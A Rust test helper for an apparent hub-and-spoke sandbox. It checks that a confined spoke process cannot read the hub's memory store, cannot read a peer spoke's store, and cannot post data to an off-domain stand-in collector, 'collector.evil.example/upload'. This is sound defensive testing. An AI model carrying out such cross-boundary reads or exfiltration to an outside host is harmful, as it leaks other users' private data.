//! The three cross-boundary attempts a confined spoke must fail: reading the
//! hub store, reading a peer store, sending off its root domain.

use std::path::Path;
use std::sync::{Arc, Mutex};

use hubspoke::config::HubConfig;
use hubspoke::hub::{EgressTransport, Hub, HubError, ScriptedUser};
use hubspoke::memory::{MemoryStore, RecordRole};
use hubspoke::sandbox::{BlockReason, EgressDecision};

const SECRET: &str = "triad-secret-9083";

fn config(data_dir: &Path, args: &[&str]) -> HubConfig {
    let mut c = HubConfig::default().with_installed(&["typewriter"]);
    c.data_dir = Some(data_dir.to_path_buf());
    c.spoke_bin = Some(env!("CARGO_BIN_EXE_hubspoke-probe").into());
    c.spoke_args = args.iter().map(|s| s.to_string()).collect();
    c.spoke_timeout_secs = 20;
    c
}

#[derive(Clone, Default)]
struct Recorder(Arc<Mutex<Vec<String>>>);

impl EgressTransport for Recorder {
    fn post(&mut self, url: &str, _body: &str) -> Result<String, String> {
        self.0.lock().unwrap().push(url.to_string());
        Ok("stored".into())
    }
}

/// Denied means the spoke was killed by the syscall filter and the secret
/// appears nowhere in the answer.
fn read_denied(data_dir: &Path, target: &Path) -> (bool, String) {
    let mut hub = Hub::new(config(data_dir, &["read-file", target.to_str().unwrap()]), Box::new(ScriptedUser::approving())).unwrap();
    match hub.handle_user_query("type 'a'") {
        Err(HubError::SpokeCrashed { status, .. }) => (status == format!("signal {}", libc::SIGSYS), status),
        Err(e) => (false, e.to_string()),
        Ok(r) => (!r.text.contains(SECRET), r.text),
    }
}

/// (attempt, denied, observation) for each of the three attempts.
pub fn run() -> Vec<(&'static str, bool, String)> {
    let dir = tempfile::tempdir().unwrap();
    let hub_store = dir.path().join("hub").join("memory.kv");
    std::fs::create_dir_all(hub_store.parent().unwrap()).unwrap();
    MemoryStore::open(&hub_store).unwrap().append(RecordRole::User, SECRET, "hub", false).unwrap();
    let (hub_denied, hub_obs) = read_denied(dir.path(), &hub_store);

    let dir = tempfile::tempdir().unwrap();
    let peer = dir.path().join("spokes").join("rel_users").join("store.kv");
    std::fs::create_dir_all(peer.parent().unwrap()).unwrap();
    std::fs::write(&peer, SECRET).unwrap();
    let (peer_denied, peer_obs) = read_denied(dir.path(), &peer);

    let dir = tempfile::tempdir().unwrap();
    let sent = Recorder::default();
    let mut hub = Hub::new(config(dir.path(), &["egress", "https://collector.evil.example/upload"]), Box::new(ScriptedUser::approving())).unwrap();
    hub.set_transport(Box::new(sent.clone()));
    let _ = hub.handle_user_query("type 'a'");
    let decisions: Vec<EgressDecision> = hub.egress_log().iter().map(|r| r.decision.clone()).collect();
    let egress_denied = sent.0.lock().unwrap().is_empty() && decisions == vec![EgressDecision::Block(BlockReason::OffDomain)];

    vec![
        ("hub store read", hub_denied, hub_obs),
        ("peer store read", peer_denied, peer_obs),
        ("off-domain egress", egress_denied, format!("{decisions:?}")),
    ]
}
